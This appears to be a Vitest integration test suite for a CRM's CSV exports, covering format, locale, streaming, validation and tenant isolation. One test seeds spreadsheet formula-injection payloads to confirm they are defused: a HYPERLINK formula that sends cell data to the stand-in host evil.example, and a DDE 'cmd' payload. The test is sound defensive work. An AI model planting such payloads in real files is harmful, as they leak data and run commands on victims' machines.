import { parse } from 'csv-parse/sync'
import { inject, beforeAll, describe, expect, it } from 'vitest'
import { make, newTenant, unique, type Tenant } from '../support/crm'
import { call } from '../support/http'
import { importCsv } from '../support/imports'

let acme: Tenant
let other: Tenant
const tag = `export-${unique()}`

beforeAll(async () => {
  [acme, other] = await Promise.all([newTenant('exports'), newTenant('exports-other')])
  const firm = await make(acme.token, '/api/v1/companies', { name: 'Export Käse AG', address: { city: 'München', country: 'DE' } })
  for (const [first, last] of [['Anna', 'Zeller'], ['Bernd', 'Auer'], ['Clara', 'Mörike']]) {
    await make(acme.token, '/api/v1/contacts', { firstName: first, lastName: last, email: `${first!.toLowerCase()}@export.example`, companyId: firm.id, tags: [tag] })
  }
  await make(acme.token, '/api/v1/contacts', { firstName: 'Ohne', lastName: 'Tag', email: 'ohne@export.example' })
  await make(acme.token, '/api/v1/deals', { title: 'Export-Deal', value: '1234.5', pipelineId: acme.pipeline.id })
  await make(other.token, '/api/v1/contacts', { firstName: 'Fremd', lastName: 'Mandant', tags: [tag] })
})

/** The raw bytes of a download and their text (after the BOM). */
async function download(token: string, path: string) {
  const res = await fetch(`${inject('baseUrl')}${path}`, { headers: { authorization: `Bearer ${token}` } })
  const bytes = new Uint8Array(await res.arrayBuffer())
  return { status: res.status, headers: res.headers, bytes, text: new TextDecoder().decode(bytes) }
}

describe('CSV export', () => {
  it('exports contacts with the list filter and sort, machine-stable keys and a BOM', async () => {
    const res = await download(acme.token, `/api/v1/contacts/export?tag=${tag}&sort=-lastName`)
    expect(res.status).toBe(200)
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="contacts-\d{4}-\d{2}-\d{2}\.csv"$/)
    expect([...res.bytes.slice(0, 3)]).toEqual([0xEF, 0xBB, 0xBF])
    const lines = res.text.trimEnd().split('\n')
    expect(lines[0]).toBe('id,firstName,lastName,email,phone,position,company,owner,tags,createdAt,updatedAt')
    expect(lines.slice(1).map(line => line.split(',')[2])).toEqual(['Zeller', 'Mörike', 'Auer'])
    expect(lines[1]).toContain(`,Anna,Zeller,anna@export.example,,,Export Käse AG,Owner exports,${tag},`)
    expect(lines[1]).toMatch(/,\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z,\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z$/)
  })

  it('German labels use semicolons and a decimal comma, as German Excel expects', async () => {
    const res = await download(acme.token, '/api/v1/deals/export?headers=labels&lang=de')
    const [header, row] = res.text.trimEnd().split('\n')
    expect(header).toBe('ID;Titel;Wert;Währung;Status;Pipeline;Phase;Kontakt;Kontakt E-Mail;Firma;Verantwortlich;Abschlussdatum;Abgeschlossen;Angelegt;Geändert')
    expect(row).toContain(';Export-Deal;1234,50;EUR;open;')
    const en = await download(acme.token, '/api/v1/companies/export?headers=labels&lang=en&country=DE')
    expect(en.text.split('\n')[0]).toBe('ID,Name,Industry,Website,Phone,Street,Postal code,City,Country,Owner,Created,Updated')
    expect(en.text).toContain(',Export Käse AG,,,,,,München,DE,')
  })

  it('streams more rows than one fetch holds, in the list\'s order, each once', async () => {
    const bulk = await newTenant('exports-bulk')
    const rows = 1234
    const csv = ['Vorname;Nachname;E-Mail', ...Array.from({ length: rows }, (_, i) => `Viele;Zeile ${String(i).padStart(4, '0')};viele.${i}@export.example`)].join('\n')
    expect(await importCsv(bulk.token, 'contacts', csv)).toMatchObject({ status: 'completed', createdCount: rows })
    const res = await download(bulk.token, '/api/v1/contacts/export?sort=-lastName')
    const lines = res.text.trimEnd().split('\n').slice(1)
    expect(lines).toHaveLength(rows)
    const names = lines.map(line => line.split(',')[2])
    expect(names[0]).toBe('Zeile 1233')
    expect(names.at(-1)).toBe('Zeile 0000')
    expect(new Set(names).size).toBe(rows)
  })

  it('exports activities, validates the query like the list does, and stays within the tenant', async () => {
    expect((await download(acme.token, '/api/v1/activities/export')).text.split('\n')[0]).toBe('id,type,subject,note,dueAt,completedAt,contact,company,deal,owner,createdAt,updatedAt')
    const bad = await call('GET', '/api/v1/contacts/export?sort=password', { token: acme.token })
    expect(bad.status).toBe(400)
    expect(bad.body.error.code).toBe('VALIDATION_ERROR')
    expect((await call('GET', '/api/v1/contacts/export?page=2', { token: acme.token })).status).toBe(400)
    const foreign = await download(other.token, `/api/v1/contacts/export?tag=${tag}`)
    expect(foreign.text.trimEnd().split('\n')).toHaveLength(2)
    expect(foreign.text).toContain('Fremd')
    expect((await call('GET', '/api/v1/contacts/export')).status).toBe(401)
  })

  it('defuses every cell a spreadsheet would run as a formula, in each list export, and keeps the rest as it is', async () => {
    const t = await newTenant('formula')
    const link = '=HYPERLINK("https://evil.example/?leak="&A2,"Details")'
    const firm = await make(t.token, '/api/v1/companies', { name: '@SUM(1+1)*cmd|\' /C calc\'!A0', industry: '+Handel' })
    const person = await make(t.token, '/api/v1/contacts', { firstName: link, lastName: '-2+3', position: 'Einkauf = Chef', companyId: firm.id, email: 'formel@export.example' })
    await make(t.token, '/api/v1/deals', { title: '=1+1', pipelineId: t.pipeline.id, contactId: person.id })
    await make(t.token, '/api/v1/activities', { type: 'note', subject: '-cmd', note: '=1+1\nzweite Zeile', contactId: person.id })
    const rows = async (kind: string) => {
      const res = await download(t.token, `/api/v1/${kind}/export`)
      expect(res.status, kind).toBe(200)
      return parse(res.text, { columns: true, bom: true }) as Record<string, string>[]
    }
    const [contact] = await rows('contacts')
    expect(contact).toMatchObject({ firstName: `'${link}`, lastName: '\'-2+3', position: 'Einkauf = Chef', email: 'formel@export.example', company: '\'@SUM(1+1)*cmd|\' /C calc\'!A0' })
    const [company] = await rows('companies')
    expect(company).toMatchObject({ name: '\'@SUM(1+1)*cmd|\' /C calc\'!A0', industry: '\'+Handel' })
    const [deal] = await rows('deals')
    expect(deal).toMatchObject({ title: '\'=1+1', contact: `'${link} -2+3`, value: '0.00' })
    const [activity] = await rows('activities')
    expect(activity).toMatchObject({ subject: '\'-cmd', note: '\'=1+1\nzweite Zeile', contact: `'${link} -2+3` })
    // No cell of any of them starts with a formula character any more.
    for (const row of [contact, company, deal, activity]) {
      for (const [key, value] of Object.entries(row!)) expect(value, key).not.toMatch(/^[=+\-@\t\r]/)
    }
  })
})
